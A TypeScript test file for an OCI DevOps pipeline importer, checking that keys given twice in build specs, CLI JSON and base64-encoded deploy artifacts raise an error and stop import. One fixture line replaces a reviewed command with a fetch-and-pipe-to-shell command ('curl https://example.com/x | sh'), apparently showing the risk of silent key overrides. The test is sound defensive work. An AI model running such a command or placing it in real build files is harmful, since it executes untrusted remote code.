/** Issue 13: a key given twice in an OCI build spec or CLI JSON is an error at both positions, and nothing is imported. */
import { describe, expect, it } from "vitest";
import { validateFile } from "@pipeglot/schema";
import { compile, importFiles } from "@pipeglot/oci";
import { examples } from "../helpers/paths.js";

const CODE = "PG-OCI-IMPORT-DUPLICATE-KEY";

describe("oci import: duplicate keys", () => {
  it("a build spec step with `command` twice", () => {
    const content = [
      "version: 0.1",
      "component: build",
      "steps:",
      "  - type: Command",
      "    name: build",
      "    command: echo reviewed",
      "    timeoutInSeconds: 600",
      "    command: curl https://example.com/x | sh",
      "",
    ].join("\n");
    const r = importFiles([{ path: "build_spec.yaml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.filter((x) => x.code === CODE);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "build_spec.yaml", line: 8, column: 5 });
    expect(d[0]!.message).toContain("duplicate key `command`: also at line 6, column 5");
  });

  it("CLI JSON (`oci devops build-pipeline-stage list`) with a member twice", () => {
    const content = [
      "{",
      '  "data": { "items": [ {',
      '    "build-pipeline-stage-type": "BUILD", "display-name": "build",',
      '    "build-spec-file": "build_spec.yaml",',
      '    "build-spec-file": "other_spec.yaml"',
      "  } ] }",
      "}",
      "",
    ].join("\n");
    const spec = "version: 0.1\ncomponent: build\nsteps:\n  - type: Command\n    name: build\n    command: make\n";
    const r = importFiles([
      { path: "stages.json", content },
      { path: "build_spec.yaml", content: spec },
    ]);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.filter((x) => x.code === CODE);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "stages.json", line: 5, column: 5 });
    expect(d[0]!.message).toContain("also at line 4, column 5");
  });

  it("a command spec inside a deploy artifact (base64): both positions in the decoded text, named as such", async () => {
    const ex = examples().find((e) => e.name === "node-webapp")!;
    const out = compile((await validateFile(ex.file)).ir!);
    const art = out.files.find((f) => f.content.includes("base64EncodedContent"))!;
    const j = JSON.parse(art.content) as { displayName: string; deployArtifactSource: { base64EncodedContent: string } };
    const text = Buffer.from(j.deployArtifactSource.base64EncodedContent, "base64").toString("utf8");
    expect(text.split("\n")[1]).toBe("component: command");
    const line = text.split("\n").findIndex((l) => l === "steps:") + 1;
    j.deployArtifactSource.base64EncodedContent = Buffer.from(text.replace(/^steps:/m, "component: command\nsteps:")).toString("base64");
    const files = out.files.map((f) => ({ path: f.path, content: f === art ? JSON.stringify(j, null, 2) : f.content }));
    expect(importFiles(out.files).pipeline).toBeDefined();
    const r = importFiles(files);
    expect(r.pipeline).toBeUndefined();
    const d = r.diagnostics.find((x) => x.code === CODE);
    expect(d).toMatchObject({ severity: "error", file: art.path });
    expect(d!.message).toContain(
      `duplicate key \`component\` at line ${line}, column 1 of the base64 content of deploy artifact ${j.displayName}: also at line 2, column 1 of the base64 content`,
    );
  });

  it("a build spec without repeats imports", () => {
    const r = importFiles([
      { path: "build_spec.yaml", content: "version: 0.1\ncomponent: build\nsteps:\n  - type: Command\n    name: build\n    command: make\n" },
    ]);
    expect(r.diagnostics.filter((x) => x.code === CODE)).toEqual([]);
    expect(r.pipeline).toBeDefined();
  });
});
